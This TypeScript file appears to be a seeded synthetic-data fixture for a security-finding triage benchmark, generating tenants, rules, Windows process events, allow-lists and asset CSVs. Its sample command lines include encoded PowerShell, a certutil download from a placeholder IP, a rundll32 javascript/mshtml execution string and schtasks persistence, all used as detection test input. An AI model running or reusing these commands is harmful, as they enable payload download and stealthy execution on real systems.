// Synthetic findings for the triage bench: tenants, skewed rule popularity (a few noisy rules make most findings,
// each on a few hosts), events from a per-tenant pool, 200 allow-list rules and an asset inventory. Seeded: every
// run sees the same data.
import { randomUUID } from 'node:crypto';
import type { Event } from '../../src/core/event.js';
import { newEventId, type TenantId } from '../../src/core/ids.js';
import type { Level } from '../../src/detect/sigma/rule.js';
import type { RecordedFinding, StoredFinding } from '../../src/detection/findings-service.js';
import type { AllowlistInput } from '../../src/triage/allowlist-model.js';

export const T0 = Date.UTC(2026, 0, 5, 8);

export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const EXES = [
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Program Files\\Veeam\\backup.exe',
  'C:\\Windows\\System32\\rundll32.exe',
  'C:\\Windows\\System32\\certutil.exe',
  'C:\\Windows\\System32\\schtasks.exe',
  'C:\\Tools\\inventory-agent.exe',
  'C:\\Windows\\System32\\wscript.exe',
];
const ARGS = [
  '-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
  '/c whoami /all',
  '-urlcache -f http://198.51.100.4/a.txt',
  '/create /tn Update /tr x.exe',
  '--scan --full',
  'javascript:"\\..\\mshtml,RunHTMLApplication"',
];
const LEVELS: Level[] = ['informational', 'low', 'medium', 'medium', 'high', 'high', 'critical'];

export interface Corpus {
  tenants: TenantId[];
  rules: { id: string; title: string; level: Level; hosts: number[] }[];
  /** Per tenant, a pool of events findings point at. */
  events: Map<string, Event[]>;
  allowlist: AllowlistInput[];
  /** Per tenant, an asset CSV. */
  assetCsv: Map<string, string>;
}

const host = (i: number): string => `ws-${String(i).padStart(4, '0')}`;

export function makeCorpus(options: {
  tenants: number;
  rules: number;
  hosts: number;
  allowlist: number;
}): Corpus {
  const rand = prng(7);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const tenants = Array.from(
    { length: options.tenants },
    (_, i) => `t${String(i).padStart(2, '0')}` as TenantId,
  );
  // Each rule fires on a handful of hosts: a noisy rule is noisy on the same machines.
  const rules = Array.from({ length: options.rules }, (_, i) => ({
    id: `0b5e${String(i).padStart(4, '0')}-7d1c-4c55-9a4e-5e1f0c1d2e3f`,
    title: `Bench rule ${i}`,
    level: pick(LEVELS),
    hosts: Array.from({ length: 1 + Math.floor(rand() * 20) }, () => Math.floor(rand() * options.hosts)),
  }));
  const events = new Map<string, Event[]>();
  for (const [t, tenant] of tenants.entries()) {
    const pool: Event[] = [];
    for (let h = 0; h < options.hosts; h++) {
      for (let k = 0; k < 4; k++) {
        const exe = pick(EXES);
        pool.push({
          id: newEventId(T0),
          tenant,
          time: T0,
          receivedAt: T0,
          logsource: { product: 'windows', category: 'process_creation' },
          fields: {
            'host.name': host(h),
            'user.name': h % 10 === 0 ? `svc_backup` : `user${String(h % 300).padStart(3, '0')}`,
            'source.ip': `10.${t}.${Math.floor(h / 250)}.${h % 250}`,
            'destination.ip': `203.0.113.${h % 200}`,
            'process.executable': exe,
            'process.command_line': `"${exe}" ${pick(ARGS)}`,
            'process.parent.executable': pick(EXES),
            'event.code': '4688',
            message: 'A new process has been created.',
          },
        });
      }
    }
    events.set(tenant, pool);
  }
  const noisy = rules.slice(0, 30);
  const allowlist: AllowlistInput[] = [];
  const base = { justification: 'bench', owner: 'bench' };
  for (let i = 0; i < options.allowlist; i++) {
    const t = i % tenants.length;
    const tenant = tenants[t]!;
    if (i % 10 === 9) {
      // Tenant-wide rules: every finding of the tenant meets them.
      const conditions =
        i % 20 === 9
          ? `host.name:scanner-0${i % 7}`
          : `finding.rule.level:informational AND source.ip:10.${t}.0.0/16 AND NOT user.name:admin*`;
      allowlist.push({ ...base, tenant, ruleId: null, conditions });
      continue;
    }
    const rule = pick(noisy);
    const h = pick(rule.hosts);
    const templates = [
      `host.name:${host(h)}`,
      `host.name:(${host(h)} OR ${host(pick(rule.hosts))} OR ${host(h + 1)})`,
      `process.executable:*backup.exe`,
      `source.ip:10.${t}.${Math.floor(h / 250)}.0/24 AND NOT user.name:admin*`,
      `process.command_line:*urlcache* AND user.name:svc_*`,
      `user.name:svc_* AND host.name:${host(h)}`,
    ];
    allowlist.push({ ...base, tenant, ruleId: rule.id, conditions: templates[i % templates.length]! });
  }
  const assetCsv = new Map<string, string>();
  for (const [t, tenant] of tenants.entries()) {
    const lines = ['name,hostnames,addresses,owner,criticality,tags'];
    for (let h = 0; h < options.hosts; h += 3)
      lines.push(`${host(h)},${host(h)},10.${t}.${Math.floor(h / 250)}.${h % 250},IT,${1 + (h % 5)},bench`);
    lines.push(`servers,,10.${t}.0.0/24,Infra,5,servers`);
    assetCsv.set(tenant, lines.join('\n'));
  }
  return { tenants, rules, events, allowlist, assetCsv };
}

/**
 * `count` findings from `start` on, one every `stepMs`: 80 % from the 30 noisiest rules, on their own hosts. Built
 * before the timed part of each chunk.
 */
export function findingChunk(
  corpus: Corpus,
  start: number,
  count: number,
  stepMs: number,
  rand: () => number,
): RecordedFinding[] {
  const out: RecordedFinding[] = [];
  for (let i = start; i < start + count; i++) {
    const tenant = corpus.tenants[Math.floor(rand() * corpus.tenants.length)]!;
    const rule =
      rand() < 0.8
        ? corpus.rules[Math.floor(rand() * 30)]!
        : corpus.rules[Math.floor(rand() * corpus.rules.length)]!;
    const h = rule.hosts[Math.floor(rand() * rule.hosts.length)]!;
    const pool = corpus.events.get(tenant)!;
    const event = pool[h * 4 + Math.floor(rand() * 4)]!;
    const time = T0 + i * stepMs;
    const stored: StoredFinding = {
      id: randomUUID(),
      tenant,
      kind: 'sigma',
      rule: { id: rule.id, title: rule.title, level: rule.level, tags: [] },
      time,
      createdAt: time,
      eventIds: [event.id],
      matched: { 'process.command_line': event.fields['process.command_line']! },
    };
    out.push({ stored, events: [event] });
  }
  return out;
}
